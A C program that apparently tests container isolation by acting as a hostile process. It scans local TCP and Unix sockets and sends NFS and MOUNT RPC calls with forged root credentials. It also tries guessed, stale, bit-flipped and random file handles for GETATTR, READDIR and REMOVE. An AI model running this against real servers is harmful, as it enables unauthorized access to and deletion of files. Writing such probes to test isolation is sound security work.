/* What a hostile program in a pocker tries on NFS servers: as uid 0, on every port and socket that
 * it can reach, with paths and handles that are guessed, stale, or another's with a bit changed.
 *
 *   nfs NAME=VALUE…     path=PATH (more than once), handle=HEX (more than once), flip=HEX
 *
 * One line a server that answers, and one for each thing that it gave.
 */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

enum { NFS = 100003, MOUNT = 100005, HANDLE_MAX = 64 };

static int argument_count;
static char **arguments;

static unsigned char out[4096], in[65536];
static size_t length;

static void word(uint32_t value)
{
	value = htonl(value);
	memcpy(out + length, &value, 4);
	length += 4;
}

static void opaque(const void *bytes, size_t n)
{
	word(n);
	memcpy(out + length, bytes, n);
	memset(out + length + n, 0, 3);
	length += (n + 3) & ~3ul;
}

static void call(uint32_t program, uint32_t procedure)
{
	length = 4;
	word(rand());
	word(0);
	word(2);
	word(program);
	word(3);
	word(procedure);
	/* AUTH_SYS: user 0, and the group of every file. */
	word(1);
	word(20 + 4);
	word(0);
	word(0); /* no name */
	word(0);
	word(0);
	word(1);
	word(0);
	word(0);
	word(0);
}

/* The status of an answer, -1 if there is none, -2 if the call itself was refused. */
static long answer(int fd)
{
	uint32_t mark = htonl(0x80000000u | (uint32_t)(length - 4));
	memcpy(out, &mark, 4);
	if (send(fd, out, length, MSG_NOSIGNAL) != (ssize_t)length)
		return -1;
	size_t have = 0, want = 4;
	while (have < want) {
		ssize_t n = recv(fd, in + have, want - have, 0);
		if (n <= 0)
			return -1;
		have += n;
		if (have == 4) {
			memcpy(&mark, in, 4);
			want = 4 + (ntohl(mark) & 0x7fffffff);
			if (want > sizeof in)
				return -1;
		}
	}
	uint32_t words[8] = {0};
	memcpy(words, in + 4, have - 4 < sizeof words ? have - 4 : sizeof words);
	if (ntohl(words[1]) != 1 || words[2] != 0 || ntohl(words[5]) != 0)
		return -2;
	return have >= 32 ? (long)ntohl(words[6]) : 0;
}

/* From a port that only root may have, if `port` is not 0. */
static int to_tcp(int family, uint16_t there, uint16_t port)
{
	int fd = socket(family, SOCK_STREAM, 0);
	struct timeval patience = {2, 0};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	int on = 1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (family == AF_INET) {
		struct sockaddr_in here = {AF_INET, htons(port), {htonl(INADDR_LOOPBACK)}, {0}};
		struct sockaddr_in addr = {AF_INET, htons(there), {htonl(INADDR_LOOPBACK)}, {0}};
		if ((!port || bind(fd, (void *)&here, sizeof here) == 0) &&
		    connect(fd, (void *)&addr, sizeof addr) == 0)
			return fd;
	} else {
		struct sockaddr_in6 here = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
		struct sockaddr_in6 addr = {.sin6_family = AF_INET6, .sin6_port = htons(there)};
		addr.sin6_addr = in6addr_loopback;
		if ((!port || bind(fd, (void *)&here, sizeof here) == 0) &&
		    connect(fd, (void *)&addr, sizeof addr) == 0)
			return fd;
	}
	close(fd);
	return -1;
}

static int to_unix(const char *path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	size_t n = strlen(path);
	if (n == 0 || n >= sizeof address.sun_path)
		return -1;
	memcpy(address.sun_path, path, n);
	if (path[0] == '@')
		address.sun_path[0] = 0;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	struct timeval patience = {0, 300000};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	if (connect(fd, (void *)&address, sizeof(sa_family_t) + n) == 0)
		return fd;
	close(fd);
	return -1;
}

static size_t from_hex(const char *hex, unsigned char *bytes)
{
	size_t n = strlen(hex) / 2;
	for (size_t i = 0; i < n && i < HANDLE_MAX; i++)
		sscanf(hex + 2 * i, "%2hhx", bytes + i);
	return n < HANDLE_MAX ? n : HANDLE_MAX;
}

static unsigned long tries;

static void try_handle(int fd, const char *where, const unsigned char *handle, size_t n, const char *kind)
{
	/* GETATTR, REMOVE, READDIR. */
	const uint32_t procedures[] = {1, 12, 16};
	for (int i = 0; i < 3; i++) {
		call(NFS, procedures[i]);
		opaque(handle, n);
		if (procedures[i] == 12)
			opaque("mark", 4);
		if (procedures[i] == 16)
			for (int zero = 0; zero < 5; zero++)
				word(zero == 4 ? 4096 : 0);
		tries++;
		if (answer(fd) == 0)
			printf("got: %s: procedure %u with a handle that is %s\n", where, procedures[i], kind);
	}
}

static void attack(int fd, const char *where)
{
	call(NFS, 0);
	if (answer(fd) == -1)
		return;
	printf("answers: %s\n", where);
	for (int i = 1; i < argument_count; i++) {
		unsigned char handle[HANDLE_MAX] = {0};
		if (strncmp(arguments[i], "path=", 5) == 0) {
			call(MOUNT, 1);
			opaque(arguments[i] + 5, strlen(arguments[i] + 5));
			tries++;
			if (answer(fd) == 0)
				printf("got: %s: MOUNT of %s\n", where, arguments[i] + 5);
		} else if (strncmp(arguments[i], "handle=", 7) == 0) {
			size_t n = from_hex(arguments[i] + 7, handle);
			try_handle(fd, where, handle, n, "another's, from before");
		} else if (strncmp(arguments[i], "flip=", 5) == 0) {
			size_t n = from_hex(arguments[i] + 5, handle);
			for (size_t bit = 0; bit < n * 8; bit++) {
				handle[bit / 8] ^= 1 << bit % 8;
				try_handle(fd, where, handle, n, "changed in one bit");
				handle[bit / 8] ^= 1 << bit % 8;
			}
			for (int round = 0; round < 200; round++) {
				for (size_t at = 0; at < n; at++)
					handle[at] = rand();
				try_handle(fd, where, handle, n, "random");
			}
		}
	}
}

int main(int argc, char **argv)
{
	argument_count = argc;
	arguments = argv;
	srand(getpid());
	const char *tables[] = {"/proc/net/tcp", "/proc/net/tcp6"};
	char line[1024], where[1200];
	for (int six = 0; six < 2; six++) {
		FILE *table = fopen(tables[six], "r");
		while (table && fgets(line, sizeof line, table)) {
			char address[64];
			unsigned port, state;
			if (sscanf(line, " %*u: %63[0-9A-F]:%X %*[0-9A-F]:%*X %X", address, &port, &state) != 3 || state != 10)
				continue;
			const uint16_t sources[] = {0, 1000 + getpid() % 23};
			for (int i = 0; i < 2; i++) {
				int fd = to_tcp(six ? AF_INET6 : AF_INET, port, sources[i]);
				snprintf(where, sizeof where, "port %u from %s port", port, i ? "a reserved" : "an ordinary");
				if (fd >= 0) {
					attack(fd, where);
					close(fd);
				}
			}
		}
	}
	FILE *sockets = fopen("/proc/net/unix", "r");
	while (sockets && fgets(line, sizeof line, sockets)) {
		char *path = strpbrk(line, "/@");
		if (!path)
			continue;
		path[strcspn(path, "\n")] = 0;
		int fd = to_unix(path);
		if (fd >= 0) {
			snprintf(where, sizeof where, "socket %s", path);
			attack(fd, where);
			close(fd);
		}
	}
	printf("tried: %lu\n", tries);
	return 0;
}
